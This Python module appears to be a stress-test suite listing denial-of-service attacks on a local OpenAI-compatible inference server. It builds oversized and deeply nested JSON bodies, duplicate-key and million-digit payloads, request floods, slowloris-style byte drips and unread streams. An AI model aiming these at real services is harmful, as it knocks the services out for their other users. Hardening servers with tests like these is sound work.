"""The attacks of ``hostile.py``: what somebody sends to hold up everybody else."""

import asyncio
import json
import time
from collections import Counter
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from typing import Any
from urllib.parse import urlsplit

import httpx2 as httpx

CHAT, COMPLETIONS, EMBEDDINGS = "/v1/chat/completions", "/v1/completions", "/v1/embeddings"
WORDS = "The quick brown fox jumps over the lazy dog and runs into the wood. "
_DRIP = 12.0  # seconds that a slow client takes at most


@dataclass(frozen=True)
class Target:
    """The node under attack, and the key that the attacker has."""

    url: str
    model: str
    key: str

    @property
    def port(self) -> int:
        return urlsplit(self.url).port or 80

    def head(self, path: str, size: int, *, key: str | None = None) -> bytes:
        return (
            f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer "
            f"{key or self.key}\r\nContent-Type: application/json\r\n"
            f"Content-Length: {size}\r\n\r\n"
        ).encode()


Attack = Callable[[Target], Awaitable[Counter[str]]]


async def post(target: Target, path: str, bodies: list[bytes]) -> Counter[str]:
    """Send all ``bodies`` at once; returns the numbers of answers by status."""
    headers = {"authorization": f"Bearer {target.key}", "content-type": "application/json"}
    limits = httpx.Limits(max_connections=None)
    async with httpx.AsyncClient(
        base_url=target.url, headers=headers, timeout=300, limits=limits
    ) as client:

        async def one(body: bytes) -> str:
            try:
                return str((await client.post(path, content=body)).status_code)
            except httpx.HTTPError as error:
                return type(error).__name__

        return Counter(await asyncio.gather(*map(one, bodies)))


def _sends(path: str, make: Callable[[str], Any], *, times: int = 1) -> Attack:
    """The attack that posts the body of ``make``, which gets the id of the model."""

    async def attack(target: Target) -> Counter[str]:
        body = make(target.model)
        data = body if isinstance(body, bytes) else json.dumps(body).encode()
        return await post(target, path, [data] * times)

    return attack


def _chat(model: str, content: Any = "Hi", **more: Any) -> dict[str, Any]:
    messages = [{"role": "user", "content": content}]
    return {"model": model, "messages": messages, "max_tokens": 1} | more


def _many_keys(count: int) -> Callable[[str], bytes]:
    def make(model: str) -> bytes:
        keys = ",".join(f'"k{number}":1' for number in range(count))
        return f'{{"model":"{model}",{keys},"k{count - 1}":2}}'.encode()

    return make


def _with_tool(model: str) -> dict[str, Any]:
    function = {"name": "get", "description": WORDS * (10_000_000 // len(WORDS))}
    return _chat(model, tools=[{"type": "function", "function": function}])


def _items(count: int, item: Any) -> Callable[[str], dict[str, Any]]:
    return lambda model: {"model": model, "messages": [item] * count, "max_tokens": 1}


def _enum(number: int) -> dict[str, Any]:
    values = [f"value {number} {index} of many" for index in range(3000)]
    return {
        "type": "json_schema",
        "json_schema": {
            "name": "choice",
            "schema": {"type": "object", "properties": {"a": {"enum": values}}},
        },
    }


async def _enums(target: Target) -> Counter[str]:
    bodies = [_chat(target.model, response_format=_enum(number)) for number in range(60)]
    return await post(target, CHAT, [json.dumps(body).encode() for body in bodies])


async def _flood(target: Target) -> Counter[str]:
    body = {"model": target.model, "prompt": WORDS * 3, "max_tokens": 64}
    return await post(target, COMPLETIONS, [json.dumps(body).encode()] * 500)


# --- on the wire ------------------------------------------------------------------------


async def _keyless(target: Target) -> Counter[str]:
    """Forty large bodies without a known key."""
    data = target.head(CHAT, 15_000_000, key="sk-nobody") + b" " * 15_000_000

    async def one() -> str:
        reader, writer = await asyncio.open_connection("127.0.0.1", target.port)
        try:
            writer.write(data)
            answer = await reader.readline()
        except ConnectionError as error:
            return type(error).__name__
        finally:
            writer.transport.abort()
        return answer.split()[1].decode() if answer else "closed"

    return Counter(await asyncio.gather(*(one() for _ in range(40))))


async def _dripped(target: Target) -> Counter[str]:
    """200 heads, a byte at a time."""
    data = target.head(CHAT, 10)

    async def one() -> str:
        _, writer = await asyncio.open_connection("127.0.0.1", target.port)
        try:
            deadline = time.monotonic() + _DRIP
            for at in range(len(data)):
                if time.monotonic() > deadline:
                    return "still open"
                writer.write(data[at : at + 1])
                await writer.drain()
                await asyncio.sleep(0.1)
            return "sent"
        except ConnectionError:
            return "cut"
        finally:
            writer.transport.abort()

    return Counter(await asyncio.gather(*(one() for _ in range(200))))


async def _unread(target: Target) -> Counter[str]:
    """50 streams that nobody reads."""
    body = {"model": target.model, "prompt": "x", "max_tokens": 1500, "stream": True}
    data = json.dumps(body).encode()

    async def one() -> str:
        _, writer = await asyncio.open_connection("127.0.0.1", target.port, limit=1024)
        try:
            writer.transport.pause_reading()  # pyright: ignore[reportAttributeAccessIssue]
            writer.write(target.head(COMPLETIONS, len(data)) + data)
            await asyncio.sleep(_DRIP)
            return "unread"
        finally:
            writer.transport.abort()

    return Counter(await asyncio.gather(*(one() for _ in range(50))))


ATTACKS: dict[str, Attack] = {
    "60,000 keys, one twice": _sends(CHAT, _many_keys(60_000)),
    "500,000 keys, one twice": _sends(CHAT, _many_keys(500_000)),
    "1 MB of English": _sends(CHAT, lambda model: _chat(model, WORDS * 15_000)),
    "4 MB of English": _sends(CHAT, lambda model: _chat(model, WORDS * 60_000)),
    "10 MB in the description of a tool": _sends(CHAT, _with_tool),
    "4 MB of English to embed": _sends(
        EMBEDDINGS, lambda model: {"model": "all-minilm-l6-v2", "input": WORDS * 60_000}
    ),
    "40 x 15 MB without a key": _keyless,
    "400,000 invalid messages": _sends(CHAT, _items(400_000, 1)),
    "100,000 empty messages": _sends(CHAT, _items(100_000, {"role": "user", "content": ""})),
    "1,000,000 unknown fields": _sends(CHAT, _many_keys(1_000_000)),
    "nested 100,000 deep": _sends(CHAT, lambda model: b'{"a":' * 100_000),
    "a number of 1,000,000 digits": _sends(CHAT, lambda model: b'{"n":%b}' % (b"9" * 10**6)),
    "500 requests of one key": _flood,
    "512 prompts in one request": _sends(
        COMPLETIONS,
        lambda model: {"model": model, "prompt": [WORDS * 3] * 512, "max_tokens": 64},
    ),
    "2,048 texts to embed": _sends(
        EMBEDDINGS, lambda model: {"model": "all-minilm-l6-v2", "input": [WORDS] * 2048}
    ),
    "60 schemas with 3,000 values each": _enums,
    "200 heads, a byte at a time": _dripped,
    "50 streams that nobody reads": _unread,
}
